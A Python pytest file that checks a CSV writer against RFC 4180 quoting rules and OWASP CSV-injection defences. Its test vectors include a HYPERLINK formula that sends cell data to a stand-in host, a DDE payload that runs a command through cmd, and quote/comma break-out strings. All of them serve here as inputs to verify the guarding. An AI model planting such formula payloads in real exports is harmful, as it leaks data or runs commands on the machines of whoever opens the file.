"""External checks for the CSV writer: RFC 4180 §2 and OWASP CSV Injection.

Sources:

* RFC 4180 §2 rules 1–7 (rule text from memory; behaviour measured with the stdlib ``csv``
  module of CPython 3.11, which is the reference reader here: ``encoding="utf-8-sig"``,
  ``newline=""``).  The §2.7 example ``"aaa","b""bb","ccc"`` is from the RFC (from memory).
* OWASP CSV Injection (www-community, 'CSV Injection', with LF added by its PR #1116) and
  OWASP ASVS 5.0 1.2.10: the formula characters ``= + - @``, TAB, CR, LF and NUL, the test
  vectors, and OWASP's worked example ``=1+2";=1+2`` → ``"'=1+2"";=1+2"``.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from structurize.write import csv_bytes, guard, unguard

BOM = b"\xef\xbb\xbf"


def _read_back(tmp_path: Path, data: bytes) -> list[list[str]]:
    # The reference reader: stdlib csv, utf-8-sig, newline="" (Python csv documentation)
    path = tmp_path / "out.csv"
    path.write_bytes(data)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


# --- RFC 4180 §2 round trip ----------------------------------------------------------------------

ROUND_TRIP_VALUES = [
    # RFC 4180 §2.6: fields containing commas must be quoted
    pytest.param("Data Analyst, Payroll", id="comma"),
    # RFC 4180 §2.7: an embedded double quote is doubled
    pytest.param('b"bb', id="quote"),
    pytest.param('She said "yes", then "no"', id="quotes-and-commas"),
    # RFC 4180 §2.6: fields containing line breaks (CRLF) must be quoted
    pytest.param("line one\r\nline two", id="crlf-inside"),
    pytest.param("line one\nline two", id="lf-inside"),
    # RFC 4180 §2.4: spaces are part of a field and must not be stripped
    pytest.param("  padded both sides  ", id="leading-trailing-spaces"),
    # non-ASCII text (UTF-8; RFC 4180 §3 charset parameter)
    pytest.param("Siobhán Kearney, Lucía Ferrández, Hana Dvořáková", id="non-ascii-latin"),
    pytest.param("田中 太郎 — ₹78,500.00 ✓", id="non-ascii-cjk-symbols"),
    pytest.param("", id="empty"),
]


@pytest.mark.parametrize("bom", [True, False], ids=["bom", "no-bom"])
@pytest.mark.parametrize("value", ROUND_TRIP_VALUES)
def test_csv_bytes_rfc4180_round_trip(tmp_path, value, bom):
    header = ["document", "value", "note"]
    rows = [["a.txt", value, "x"], ["b.txt", "plain", value]]
    data = csv_bytes(header, rows, bom=bom)
    assert _read_back(tmp_path, data) == [header, *rows]


@pytest.mark.parametrize(("bom", "starts_with_bom"), [(True, True), (False, False)], ids=["bom", "no-bom"])
def test_csv_bytes_bom_present_iff_requested(bom, starts_with_bom):
    # UTF-8 with BOM for Excel, none for pipelines (common practice, no source)
    data = csv_bytes(["name"], [["López"]], bom=bom)
    assert data.startswith(BOM) is starts_with_bom
    assert data.count(BOM) == (1 if bom else 0)
    body = data[len(BOM) :] if bom else data
    assert body.decode("utf-8") == '"name"\r\n"López"\r\n'


@pytest.mark.parametrize(
    "rows",
    [
        pytest.param([["a", "b"], ["c", "d"]], id="plain"),
        pytest.param([["x\r\ny", "z"], ["w", "v\nu"]], id="breaks-inside"),
    ],
)
def test_csv_bytes_rfc4180_records_end_with_crlf(rows):
    # RFC 4180 §2.1: each record ends with CRLF; §2.2: the last one may, and here does
    data = csv_bytes(["h1", "h2"], rows, bom=False)
    assert data.endswith(b'"\r\n')
    text = data.decode("utf-8")
    # outside quoted fields, the only line break is CRLF: remove the quoted parts and look
    outside = "".join(part for index, part in enumerate(text.split('"')) if index % 2 == 0)
    assert "\n" not in outside.replace("\r\n", "")
    assert "\r" not in outside.replace("\r\n", "")
    assert outside.count("\r\n") == 1 + len(rows)


@pytest.mark.parametrize(
    ("row", "expected"),
    [
        # RFC 4180 §2.7 example: "aaa","b""bb","ccc" (from memory of the RFC)
        pytest.param(["aaa", 'b"bb', "ccc"], b'"aaa","b""bb","ccc"\r\n', id="2.7-example"),
        # RFC 4180 §2.6 example: "aaa","b CRLF bb","ccc"
        pytest.param(["aaa", "b\r\nbb", "ccc"], b'"aaa","b\r\nbb","ccc"\r\n', id="2.6-example"),
    ],
)
def test_csv_bytes_rfc4180_exact_bytes(row, expected):
    # every field quoted (RFC 4180 §2.5 allows it; OWASP CSV Injection requires it)
    data = csv_bytes(["h1", "h2", "h3"], [row], bom=False)
    assert data == b'"h1","h2","h3"\r\n' + expected


# --- OWASP CSV Injection / ASVS 5.0 1.2.10 --------------------------------------------------------

INJECTION_VECTORS = [
    # test vectors for OWASP CSV Injection (www-community, 'CSV Injection') and ASVS 5.0 1.2.10
    pytest.param('=HYPERLINK("http://x/?"&A1,"click")', id="equals-hyperlink"),
    pytest.param("@SUM(1+1)*cmd|' /C calc'!A0", id="at-sum-dde"),
    pytest.param("+1+1", id="plus"),
    pytest.param("-2+3", id="minus"),
    pytest.param("\t=1+1", id="tab"),  # OWASP: Tab 0x09; ASVS 1.2.10 \t
    pytest.param("\r=1+1", id="cr"),  # OWASP: Carriage return 0x0D
    pytest.param("\n=1+1", id="lf"),  # OWASP: Line feed 0x0A (PR #1116, Aug 2025)
    pytest.param("\0=1", id="nul"),  # ASVS 5.0 1.2.10: \0 (NUL)
]


@pytest.mark.parametrize("value", INJECTION_VECTORS)
def test_csv_bytes_owasp_formula_cells_get_apostrophe(tmp_path, value):
    # OWASP CSV Injection / ASVS 5.0 1.2.10: prefix the cell with a single quote
    data = csv_bytes(["document", "value"], [["a.txt", value]], bom=True)
    written = _read_back(tmp_path, data)[1][1]
    assert written == "'" + value
    # RFC 4180 §2.6–2.7: the whole cell is one quoted field, so no extra cell appears
    assert len(_read_back(tmp_path, data)[1]) == 2
    assert unguard(written) == value


@pytest.mark.parametrize("value", INJECTION_VECTORS)
def test_guard_unguard_owasp_vectors_round_trip(value):
    assert guard(value) == "'" + value
    assert unguard(guard(value)) == value


def test_csv_bytes_owasp_header_name_is_guarded(tmp_path):
    # a header name "=cmd" is guarded too (OWASP CSV Injection; OWASP ASVS 5.0 1.2.10)
    data = csv_bytes(["document", "=cmd"], [["a.txt", "ok"]], bom=True)
    assert _read_back(tmp_path, data)[0] == ["document", "'=cmd"]
    assert data.startswith(BOM + b'"document","\'=cmd"\r\n')


@pytest.mark.parametrize(
    "value",
    [
        # OWASP CSV Injection: a value containing \",=1+1 (separator break-out).  It does not
        # start with a formula character, so the defence is RFC 4180 §2.6–2.7 quoting
        # (ASVS 5.0 1.2.10): the value stays one cell and no cell starts with "=".
        pytest.param('x",=1+1', id="quote-comma-breakout"),
        pytest.param('",=1+1', id="leading-quote-breakout"),
        pytest.param('x";=1+1', id="semicolon-breakout"),
    ],
)
def test_csv_bytes_owasp_separator_breakout_stays_one_cell(tmp_path, value):
    data = csv_bytes(["document", "value"], [["a.txt", value]], bom=False)
    rows = _read_back(tmp_path, data)
    assert rows[1] == ["a.txt", value]
    # RFC 4180 §2.7: the embedded quote is doubled inside one quoted field
    assert ('"' + value.replace('"', '""') + '"\r\n').encode() in data
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_csv_bytes_owasp_worked_example_exact_bytes():
    # OWASP CSV Injection worked example (www-community, 'CSV Injection'): =1+2";=1+2 → "'=1+2"";=1+2"
    data = csv_bytes(["value"], [['=1+2";=1+2']], bom=False)
    assert data == b'"value"\r\n"\'=1+2"";=1+2"\r\n'


ORDINARY_TEXT = [
    pytest.param("Ana López", id="name"),
    pytest.param("Senior Data Analyst", id="title"),
    pytest.param("78500", id="digits"),
    pytest.param("2025-03-01", id="iso-date"),
    pytest.param(" =not a formula (leading space)", id="space-then-equals"),
    pytest.param("a=b+c-d@e", id="operators-inside"),
    pytest.param("'quoted'", id="apostrophe-then-letter"),
    pytest.param("", id="empty"),
]


@pytest.mark.parametrize("value", ORDINARY_TEXT)
def test_csv_bytes_ordinary_text_unchanged(tmp_path, value):
    # OWASP CSV Injection: only cells that start with a formula character are prefixed
    assert guard(value) == value
    assert unguard(value) == value
    data = csv_bytes(["document", "value"], [["a.txt", value]], bom=True)
    assert _read_back(tmp_path, data)[1] == ["a.txt", value]


@pytest.mark.parametrize(
    "value",
    [
        # A value that really starts with an apostrophe followed by a formula character must
        # survive guard → unguard as well ("Undo guard when reading our own CSV back").
        pytest.param("'=1+1", id="apostrophe-equals"),
        pytest.param("'-5 adjustment", id="apostrophe-minus"),
    ],
)
def test_guard_unguard_apostrophe_values_round_trip(value):
    assert unguard(guard(value)) == value


@pytest.mark.parametrize(
    ("value", "column_guarded", "written"),
    [
        # validated numbers in typed columns are written canonically (common practice, no source)
        # ("-45.00" is a number, not a formula); text columns are guarded
        pytest.param("-45.00", False, "-45.00", id="typed-number-unguarded"),
        pytest.param("-45.00", True, "'-45.00", id="text-column-guarded"),
    ],
)
def test_csv_bytes_guarded_columns_only(tmp_path, value, column_guarded, written):
    data = csv_bytes(["document", "amount"], [["=a.txt", value]], bom=False, guarded=[True, column_guarded])
    assert _read_back(tmp_path, data)[1] == ["'=a.txt", written]
